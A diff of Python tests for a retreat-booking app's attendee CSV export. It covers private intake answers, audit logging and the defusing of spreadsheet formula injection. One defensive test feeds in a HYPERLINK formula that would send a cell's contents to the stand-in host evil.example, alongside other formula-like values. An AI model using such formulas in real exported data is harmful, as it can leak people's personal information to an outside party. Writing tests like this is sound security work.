@@ -12,10 +12,24 @@ import pytest
 from retreats.booking.services import AttendeeDetails
 from retreats.extensions import db
 from retreats.formatting import major_units
+from retreats.listings.questions import Privacy
 from retreats.organizer.attendees import export
 from retreats.organizer.attendees.export import COLUMNS, PRIVATE_COLUMNS, safe_cell
 from tests.conftest import on_both_databases
-from tests.factories import ADA, BEA, CY, held_booking, paid_booking
+from tests.factories import (
+    ADA,
+    ADA_INTAKE,
+    BEA,
+    BEA_INTAKE,
+    CY,
+    CY_INTAKE,
+    add_question,
+    answered,
+    held_booking,
+    intake,
+    paid_booking,
+    starting_questions,
+)
 from tests.organizer.helpers import add_bookings, audit_entries_with_action, list_page
 
 
@@ -42,8 +56,8 @@ def test_the_export_has_one_line_per_person_and_no_private_answers_by_default(
     organizer_client, make_retreat, organizer
 ):
     retreat = make_retreat(slug="heart-weekend")
-    couple = paid_booking(retreat, ADA, BEA)
-    single = paid_booking(retreat, CY)
+    couple = paid_booking(retreat, ADA, BEA, answers=intake(retreat, ADA_INTAKE, BEA_INTAKE))
+    single = paid_booking(retreat, CY, answers=intake(retreat, CY_INTAKE))
     held_booking(retreat, CY)  # pending: left out, like on the list
 
     response = download(organizer_client, retreat)
@@ -54,7 +68,8 @@ def test_the_export_has_one_line_per_person_and_no_private_answers_by_default(
         'attachment; filename="heart-weekend-attendees.csv"'
     )
     rows = parsed(response)
-    assert list(rows[0]) == COLUMNS
+    # The one ordinary starting question has its column, headed by its label; no private one.
+    assert list(rows[0]) == COLUMNS + ["Dietary needs"]
     assert [(row["Booking"], row["Name"], row["Person"]) for row in rows] == [
         (couple.reference, "Ada Lovelace", "Booker"),
         (couple.reference, "Bea Lovelace", "Partner"),
@@ -71,9 +86,12 @@ def test_the_export_has_one_line_per_person_and_no_private_answers_by_default(
         ada["Booking owed"],
     ) == ("EUR", "450.00", "0.00", "0.00")
     assert ada["Dietary needs"] == "Vegetarian" and ada["Checked in"] == ""
+    assert [row["Dietary needs"] for row in rows[1:]] == ["No nuts", ""]
     text = response.get_data(as_text=True)
-    for answer in (ADA.accessibility_needs, ADA.hopes, "20 7946"):
+    for answer in (ADA_INTAKE["accessibility"], ADA_INTAKE["hopes"], CY_INTAKE["hopes"], "20 7946"):
         assert answer not in text
+    for label in ("Accessibility needs", "Emergency contact", "What do you hope for"):
+        assert label not in text
     [entry] = audit_entries_with_action(db, "attendees.exported")
     assert entry.actor_id == organizer.id and entry.retreat_id == retreat.id
     assert entry.detail.startswith("without private answers")
@@ -84,14 +102,20 @@ def test_ticking_private_answers_adds_their_columns_and_says_so_in_the_audit_log
     organizer_client, make_retreat
 ):
     retreat = make_retreat()
-    paid_booking(retreat, ADA, BEA)
+    paid_booking(retreat, ADA, BEA, answers=intake(retreat, ADA_INTAKE, BEA_INTAKE))
+    asked = starting_questions(retreat)
+    private = ("accessibility", "emergency-contact", "hopes")
 
     rows = parsed(download(organizer_client, retreat, private="1", status="all"))
 
-    assert list(rows[0]) == COLUMNS + PRIVATE_COLUMNS
-    assert rows[0]["Accessibility needs"] == ADA.accessibility_needs
-    assert rows[0]["Hopes"] == ADA.hopes
-    assert rows[0]["Emergency contact"] == ADA.emergency_contact
+    assert list(rows[0]) == (
+        COLUMNS + ["Dietary needs"] + PRIVATE_COLUMNS + [asked[key].label for key in private]
+    )
+    assert asked["hopes"].label == "What do you hope for from this time?"
+    for key in private:
+        assert rows[0][asked[key].label] == ADA_INTAKE[key]
+        assert rows[1][asked[key].label] == ""  # Bea left them empty
+    assert rows[0]["Dietary needs"] == "Vegetarian" and rows[1]["Dietary needs"] == "No nuts"
     [entry] = audit_entries_with_action(db, "attendees.exported")
     assert entry.detail == "with private answers; status=all"
 
@@ -111,13 +135,18 @@ def test_the_list_page_offers_the_export_with_private_answers_unticked(
 def test_cells_a_spreadsheet_would_run_as_formulas_are_defused(organizer_client, make_retreat):
     retreat = make_retreat()
     sneaky = AttendeeDetails(
-        name='=HYPERLINK("http://evil.example/?"&A1,"Click")',
-        email="sneaky@example.org",
-        dietary_needs="@SUM(1+1)",
-        emergency_contact="+44 20 7946 0000",
-        hopes="-2+3",
+        name='=HYPERLINK("http://evil.example/?"&A1,"Click")', email="sneaky@example.org"
     )
-    paid_booking(retreat, sneaky)
+    answers = {
+        "dietary-needs": "@SUM(1+1)",
+        "emergency-contact": "+44 20 7946 0000",
+        "hopes": "-2+3",
+    }
+    given = intake(retreat, answers)
+    # An organizer's label is a heading: it is defused too.
+    labelled = add_question(retreat, label="=Anything else?", privacy=Privacy.ORDINARY)
+    given.append(answered(labelled, "=1+2"))
+    paid_booking(retreat, sneaky, answers=given)
 
     [row] = parsed(download(organizer_client, retreat, private="1"))
 
@@ -125,7 +154,8 @@ def test_cells_a_spreadsheet_would_run_as_formulas_are_defused(organizer_client,
     assert row["Contact name"] == "'" + sneaky.name
     assert row["Dietary needs"] == "'@SUM(1+1)"
     assert row["Emergency contact"] == "'+44 20 7946 0000"
-    assert row["Hopes"] == "'-2+3"
+    assert row["What do you hope for from this time?"] == "'-2+3"
+    assert row["'=Anything else?"] == "'=1+2"
     assert row["Email"] == "sneaky@example.org"
 
 
@@ -160,9 +190,8 @@ def test_accents_and_line_breaks_survive_the_round_trip(organizer_client, make_r
     retreat = make_retreat()
     paid_booking(
         retreat,
-        AttendeeDetails(
-            name="Zoë Ødegård", email="zoe@example.org", dietary_needs='No "dairy"\nNo gluten'
-        ),
+        AttendeeDetails(name="Zoë Ødegård", email="zoe@example.org"),
+        answers=intake(retreat, {"dietary-needs": 'No "dairy"\nNo gluten'}),
     )
 
     [row] = parsed_allowing_breaks(download(organizer_client, retreat))
@@ -226,8 +255,8 @@ def test_exporting_ten_times_the_people_takes_no_more_memory(
     monkeypatch.setattr(export, "BATCH_SIZE", 50)
     small = make_retreat(capacity=10_000)
     large = make_retreat(capacity=10_000)
-    add_bookings(db, small, 150)  # 200 people
-    add_bookings(db, large, 1500)  # 2,000 people
+    add_bookings(db, small, 150, intake=True)  # 200 people, their answers
+    add_bookings(db, large, 1500, intake=True)  # 2,000 people
     traced_peak_while_downloading(organizer_client, small)  # caches and compiled SQL warm
 
     small_lines, small_peak = traced_peak_while_downloading(organizer_client, small)
